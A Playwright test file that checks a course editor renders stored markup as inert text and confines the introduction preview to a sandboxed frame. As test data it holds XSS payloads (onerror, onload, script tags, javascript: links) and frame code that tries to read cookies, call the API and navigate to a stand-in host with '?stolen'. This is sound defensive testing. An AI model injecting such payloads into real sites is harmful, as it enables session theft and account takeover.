import type { Frame, Page } from '@playwright/test';
import { AWKWARD_SECTIONS, COURSES, ONBOARDING_SECTIONS } from '../../sandbox/seed/ids';
import { heading } from '../support/pages/heading';
import { openAs } from '../support/session';
import { expect, test } from '../support/test';

const { welcome, gettingIn } = ONBOARDING_SECTIONS;
const editPath = `/sections/${welcome}/edit`;
const sectionsPath = `/courses/${COURSES.memberOnboarding}/sections`;
const preview = (page: Page) => page.getByTitle('Preview of the introduction');
const isOwned = (page: Page) => page.evaluate(() => 'owned' in globalThis);

const evil = {
  course: '<img src=x onerror="owned=1">Course',
  section: '"><script>owned=1</script>Section',
  file: '../<svg onload=owned=1>.png',
  author: '<a href="javascript:owned=1">me</a>@example.com',
};

test.describe('row 23: markup that somebody stored is shown as text', () => {
  test.beforeEach(async ({ sandbox }) => {
    await sandbox.edit('courses', COURSES.memberOnboarding, {
      Title: evil.course,
      BusinessName: evil.author,
    });
    await sandbox.edit('sections', welcome, {
      Title: evil.section,
      CourseTitle: evil.course,
      ImageFileName: evil.file,
      UpdatedBy: evil.author,
      UniqueId: '<b>id</b>',
      UpdatedOn: '<i>now</i>',
    });
  });

  test('in the list of courses', async ({ page, sandbox }) => {
    await openAs(page, sandbox, '/courses');
    await expect(page.getByRole('link', { name: evil.course, exact: true })).toBeVisible();
    await expect(page.getByText(evil.author, { exact: true })).toBeVisible();
    await page.getByLabel('Search courses').fill('<b>nothing</b>');
    await expect(page.getByText('No course matches “<b>nothing</b>”')).toBeVisible();
    expect(await isOwned(page)).toBe(false);
  });

  test('in the list of sections', async ({ page, sandbox }) => {
    await openAs(page, sandbox, sectionsPath);
    await expect(heading(page, evil.course)).toBeVisible();
    expect((await page.title()).startsWith(evil.course)).toBe(true);
    await expect(page.getByRole('link', { name: evil.section, exact: true })).toBeVisible();
    await expect(page.getByText(`After “${evil.section}” is completed`)).toBeVisible();
    expect(await isOwned(page)).toBe(false);
  });

  test('row 93: on the edit page, the name of the image too', async ({ page, sandbox }) => {
    await openAs(page, sandbox, editPath);
    await expect(page.getByLabel('Title', { exact: true })).toHaveValue(evil.section);
    await expect(page.getByRole('link', { name: evil.course, exact: true }).first()).toBeVisible();
    for (const text of [evil.file, evil.author, '<b>id</b>']) {
      await expect(page.getByText(text, { exact: true })).toBeVisible();
    }
    await expect(page.getByText('<i>now</i>')).toBeVisible();
    expect(await isOwned(page)).toBe(false);
  });

  test('in the course picker of a new section', async ({ page, sandbox }) => {
    await openAs(page, sandbox, '/sections/new');
    const picker = page.getByRole('combobox', { name: 'Course' });
    await picker.fill('onerror');
    const option = page.getByRole('option').filter({ hasText: evil.course });
    await expect(option).toBeVisible();
    await option.click();
    await expect(picker).toHaveValue(evil.course);
    await page.goto(`/sections/new?courseId=${COURSES.memberOnboarding}`);
    await expect(page.getByRole('combobox', { name: 'Course' })).toHaveValue(evil.course);
    expect(await isOwned(page)).toBe(false);
  });
});

test('row 22: script, window and address in an answer of the server are ignored', async ({
  page,
  context,
  sandbox,
}) => {
  await openAs(page, sandbox, editPath);
  const title = page.getByLabel('Title', { exact: true });
  await title.fill('Saved [fault:hostile-envelope]');
  const orders = {
    OpenInDialog: true,
    OpenInWindow: true,
    RedirectURL: 'https://evil.example/',
    JavaScript: 'owned = 1; document.title = "taken over"',
  };
  await sandbox.fail({ method: 'GET', times: 20, fault: { merge: orders } });
  await page.getByRole('button', { name: 'Save changes' }).click();
  await expect(page.getByRole('status').filter({ hasText: /^Saved at/ })).toBeVisible();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('link', { name: /^Saved/ })).toBeVisible();
  await expect(page).toHaveURL(sectionsPath);
  await expect(page).not.toHaveTitle(/taken over/);
  expect(context.pages()).toHaveLength(1);
  expect(await isOwned(page)).toBe(false);
});

test('row 23: a section full of markup that acts is opened and saved without running any of it', async ({
  page,
  sandbox,
}) => {
  const before = await sandbox.read('sections', AWKWARD_SECTIONS.script);
  await openAs(page, sandbox, `/sections/${AWKWARD_SECTIONS.script}/edit`);
  await expect(page.getByLabel('Introduction', { exact: true })).toHaveValue(
    String(before['SectionContents']),
  );
  await page.getByRole('tab', { name: 'Preview' }).click();
  await expect(preview(page).contentFrame().getByText('Click')).toBeVisible();
  await page.getByLabel('Display order').fill('77');
  await page.getByRole('button', { name: 'Save changes' }).click();
  await expect(page.getByRole('status').filter({ hasText: /^Saved at/ })).toBeVisible();
  await expect(page).toHaveTitle(/ – Edit section – /);
  const after = await sandbox.read('sections', AWKWARD_SECTIONS.script);
  expect(after).toMatchObject({ DisplayOrder: 77, SectionContents: before['SectionContents'] });
});

const pixel = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const contents = `
  <p>Shown to members</p>
  <img src="https://images.example/one.gif" alt="one"><img src="http://images.example/two.gif" alt="two">
  <img src="/api/content/courses" alt="three"><img src="//images.example/four.gif" srcset="https://images.example/five.gif 2x" alt="four">
  <p style="background:url(http://images.example/six.gif)">styled</p>
  <script>parent.owned = 1</script><iframe src="/courses"></iframe><object data="/courses"></object>
  <link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
  <meta http-equiv="refresh" content="0;url=https://evil.example/"><style>@import "https://evil.example/y.css";</style>
  <form action="https://evil.example/"><button>Send</button></form>
  <a href="https://evil.example/" target="_top">Away</a><a href="javascript:parent.owned=1">Run</a>
  <video src="https://evil.example/v.mp4" autoplay></video><svg onload="parent.owned=1"></svg>`;

/** What the third image and the frame's code ask for; the page of a section does not. */
const listOfCourses = '/content/courses';

/** What code in the frame, if any came to run there, might try. */
const attempts: readonly { what: string; run: () => unknown; outcome: RegExp }[] = [
  { what: 'having an origin', run: () => self.origin, outcome: /^null$/ },
  { what: 'reading the app', run: () => parent.document.title, outcome: /SecurityError/ },
  { what: 'reading the session', run: () => sessionStorage.length, outcome: /SecurityError|sandboxed/ },
  { what: 'reading cookies', run: () => document.cookie, outcome: /SecurityError|sandboxed/ },
  { what: 'calling the API', run: () => fetch('/api/content/courses?size=1'), outcome: /Failed to fetch/ },
  { what: 'opening a window', run: () => window.open('https://evil.example/'), outcome: /^null$/ },
  {
    what: 'leading the app away',
    run: () => {
      parent.location.href = 'https://evil.example/';
    },
    outcome: /SecurityError|permission/,
  },
];

async function openPreview(page: Page): Promise<Frame> {
  await page.getByRole('tab', { name: 'Preview' }).click();
  // Images load when they come near to being seen.
  await preview(page).scrollIntoViewIfNeeded();
  const frame = preview(page).contentFrame();
  await expect(frame.getByText('Shown to members')).toBeVisible();
  const found = page.frames().find((candidate) => candidate.url().endsWith('/preview.html'));
  if (!found) throw new Error('There is no preview frame.');
  return found;
}

test.describe('row 23: the preview of an introduction', () => {
  test.beforeEach(async ({ sandbox, allow, context }) => {
    await sandbox.edit('sections', gettingIn, { SectionContents: contents });
    allow.origin('https://images.example');
    await context.route('https://images.example/**', (route) =>
      route.fulfill({ contentType: 'image/gif', body: pixel }),
    );
  });

  test('loads images over https, without telling who looks, and nothing else', async ({ page, sandbox }) => {
    const asked: string[] = [];
    page.on('request', (request) => {
      if (request.url().startsWith('https:')) asked.push(request.url());
    });
    await openAs(page, sandbox, `/sections/${gettingIn}/edit`);
    expect(asked).toEqual([]);
    const image = page.waitForRequest('https://images.example/one.gif');
    const frame = await openPreview(page);
    const headers = await (await image).allHeaders();
    expect([headers['referer'], headers['cookie'], headers['authorization']]).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
    await expect
      .poll(() => [...asked].sort())
      .toEqual(['https://images.example/four.gif', 'https://images.example/one.gif']);
    await expect(frame.getByText(/Image “two” is not loaded in the preview/)).toBeVisible();
    await expect(frame.getByRole('link')).toHaveCount(0);
    await expect(frame.getByRole('button')).toHaveCount(0);
    expect(await sandbox.requests('GET', listOfCourses)).toEqual([]);
    expect(await isOwned(page)).toBe(false);
    expect(page.frames()).toHaveLength(2);
    await frame.getByText('Away').click();
    await expect(page).toHaveURL(`/sections/${gettingIn}/edit`);
  });

  test('is a frame from which no code could reach the app, the API or another site', async ({
    page,
    context,
    sandbox,
    allow,
  }) => {
    allow.violation(/^(connect-src|frame-src)/);
    allow.origin('https://evil.example');
    allow.console(/sandboxed|Unsafe attempt|Blocked opening|Blocked form/);
    await openAs(page, sandbox, `/sections/${gettingIn}/edit`);
    await expect(page.getByRole('tab', { name: 'Preview' })).toBeVisible();
    const frame = await openPreview(page);
    await expect(preview(page)).toHaveAttribute('sandbox', 'allow-scripts');
    for (const { what, run, outcome } of attempts) {
      const result = await frame.evaluate(run).then(String, (error: Error) => error.message);
      expect.soft(result, what).toMatch(outcome);
    }
    const refused = page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
        }),
    );
    await frame.evaluate(() => {
      location.href = 'https://evil.example/?stolen';
    });
    expect(await refused).toBe('frame-src');
    await expect(page).toHaveURL(`/sections/${gettingIn}/edit`);
    expect(context.pages()).toHaveLength(1);
    expect(await sandbox.requests('GET', listOfCourses)).toEqual([]);
  });
});
